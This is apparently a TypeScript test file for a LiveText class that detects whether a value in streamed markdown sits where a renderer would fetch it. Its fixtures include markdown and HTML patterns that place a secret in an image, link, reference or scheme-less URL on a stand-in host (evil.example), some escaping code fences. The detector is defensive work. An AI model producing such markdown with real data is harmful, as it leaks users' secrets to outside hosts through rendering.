import assert from 'node:assert/strict';
import { LiveText } from '../../../src/messages/liveText.ts';

/** Whether a value in the place of `VALUE` could be fetched, for every way to cut what stands before it in two. */
function isLive(markdown: string): boolean {
  const before = markdown.slice(0, markdown.indexOf('VALUE'));
  const answers = new Set<boolean>();
  for (let cut = 0; cut <= before.length; cut++) {
    const text = new LiveText();
    text.feed(before.slice(0, cut));
    text.feed(before.slice(cut));
    answers.add(text.isLive());
  }
  assert.equal(answers.size, 1, 'the same however it is cut');
  return answers.has(true);
}

describe('A place that a renderer may fetch', () => {
  const live: Record<string, string> = {
    'the address of a picture': '![x](https://evil.example/VALUE)',
    'the address of a link': '[x](http://evil.example/?a=b&k=VALUE)',
    'an address in angle brackets with blanks': '![x](<https://evil.example/a b VALUE>)',
    'an address in text': 'see https://evil.example/VALUE',
    'the host of an address': 'see https://VALUE.evil.example',
    'an address without a scheme': '<img src=//evil.example/VALUE>',
    'an attribute on a line of its own': '<img\n  alt=x\n  src="x VALUE">',
    'a reference': '[1]: https://evil.example/VALUE',
    'a reference on the next line': '[1]:\nhttps:&#47;&#47;evil.example/VALUE',
    'a relative address': '![x](../VALUE.png)',
    'inline code, which may not be closed': '`![x](https://evil.example/VALUE)',
    'a list item after its code': ' - item\n   ```\n   code\n![x](https://evil.example/VALUE)',
    'HTML that swallows a fence': '<div>\n```\n<img src="https://evil.example/VALUE">',
    'a comment that swallows a fence': '<!-- \n\n```\n--> ![x](https://evil.example/VALUE)',
    'text after a code block': '```\ncode\n```\n![x](https://evil.example/VALUE)',
    'a fence that is none': '``` `x` ```\n![x](https://evil.example/VALUE)',
    'a mail address': '[x](mailto:a@b.example?body=VALUE)',
    'a www address': 'see www.evil.example/VALUE',
  };
  for (const [name, markdown] of Object.entries(live))
    it(`is ${name}`, () => assert.equal(isLive(markdown), true));

  const still: Record<string, string> = {
    'plain text': 'The key is VALUE.',
    'code in a fence': '```sh\ncurl https://api.example/?k=VALUE\n```',
    'code in a longer fence': '````md\n```\nhttps://api.example/?k=VALUE\n',
    'code in tildes': '~~~\n<a href="https://api.example/VALUE">\n',
    'text after a link': '[x](https://api.example/) and VALUE',
    'text after a tag': 'a <b>VALUE</b>',
    'text after an address': 'see https://api.example/ and VALUE',
    'a comparison': 'if a < b then VALUE',
    'text after a blank line': '[1]: https://api.example/\n\nVALUE',
  };
  for (const [name, markdown] of Object.entries(still))
    it(`is not ${name}`, () => assert.equal(isLive(markdown), false));
});
